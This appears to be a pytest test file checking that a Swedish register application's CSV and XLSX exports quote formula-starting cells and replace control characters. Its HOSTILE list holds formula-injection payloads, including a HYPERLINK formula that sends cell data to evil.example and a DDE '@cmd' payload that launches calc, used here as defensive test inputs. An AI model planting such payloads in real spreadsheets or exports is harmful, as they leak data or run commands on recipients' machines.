"""Every CSV/XLSX cell is safe: no formula injection, no control character that breaks a file (issue 9)."""

import datetime
import io
import pathlib
import re
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from kaa.core.tabular import csv_writer, safe_cell, safe_row, xlsx_bytes
from kaa.register.export import write_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Klicka")', "+SUM(1,2)", "-2+3", "@cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", "  =1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_start_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["200601011234", "20060101-1234", "i_malgrupp", "Nyköpings gymnasium",
                                   "a=b", "", 42, -7, 1.5, None, datetime.date(2026, 1, 2)])
def test_ordinary_values_are_untouched(value):
    assert safe_cell(value) == value


def test_control_characters_are_replaced():
    assert safe_cell("Ny\x00man\x0b\x1b") == "Ny\ufffdman\ufffd\ufffd"
    assert safe_cell("rad 1\nrad 2\ttab") == "rad 1\nrad 2\ttab"


def test_csv_writer_neutralises_every_cell():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["=1+1", "ok", 5])
    writer.writerows([["@x", "-y"]])
    assert out.getvalue() == "'=1+1;ok;5\n'@x;'-y\n"


def test_register_export_file_format_is_unchanged_and_safe():
    out = io.StringIO()
    write_csv([("200601011234", "i_malgrupp", "avbrott", datetime.date(2026, 1, 2)),
               ("=1+1", "@a", "-b", datetime.date(2026, 1, 3))], out)
    assert out.getvalue().splitlines() == ["personnummer;status;orsak;fran_datum",
                                           "200601011234;i_malgrupp;avbrott;2026-01-02",
                                           "'=1+1;'@a;'-b;2026-01-03"]


def test_xlsx_cells_are_text_never_formulas_and_control_characters_do_not_fail():
    content = xlsx_bytes([[*HOSTILE, "Ny\x00man", 12, datetime.date(2026, 1, 2)]], header=["a"] * 10,
                         sheet_title="Reg:ister")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = next(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/sheet"))
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    ws = load_workbook(io.BytesIO(content)).active
    cells = next(iter(ws.iter_rows(min_row=2)))
    for cell, text in zip(cells, HOSTILE, strict=False):
        assert cell.data_type == "s"
        assert cell.value == "'" + text.replace("\r", "\n")  # XML reads a CR back as a line feed
    assert cells[len(HOSTILE)].value == "Ny\ufffdman"
    assert cells[len(HOSTILE) + 1].value == 12


# The one exception: a municipality's export (docs/portability.md) is read back by a machine and must
# restore every text exactly, so its cells are written as stored, never quoted for a spreadsheet program
# (kaa/portability/csvfile.py explains; the documentation warns its readers).
OWN_CSV_WRITERS = {"portability/csvfile.py"}


def test_no_csv_or_xlsx_is_written_outside_the_helper():
    """One helper, used everywhere: a new export that writes CSV/XLSX directly fails here."""
    root = pathlib.Path(__file__).resolve().parents[2] / "kaa"
    pattern = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|openpyxl\.Workbook|"
                         r"from openpyxl import .*Workbook\b")
    offenders = [str(path.relative_to(root)) for path in root.rglob("*.py")
                 if path.name != "tabular.py" and str(path.relative_to(root)) not in OWN_CSV_WRITERS
                 and pattern.search(path.read_text(encoding="utf-8"))]
    assert offenders == []


# Cells built from the characters that matter (formula starts, spaces, line breaks, control characters).
CELL_TEXT = st.text(alphabet=st.sampled_from(list("=+-@ \t\r\nab1;\x00\x1f\x7f\ufffe")), max_size=6)


@given(st.lists(st.one_of(CELL_TEXT, st.none(), st.integers(), st.dates()), max_size=8))
def test_a_row_is_made_safe_exactly_as_its_cells_one_by_one(row):
    """``safe_row`` checks a whole row at once; it must give what ``safe_cell`` gives for each cell."""
    assert safe_row(row) == [safe_cell(value) for value in row]
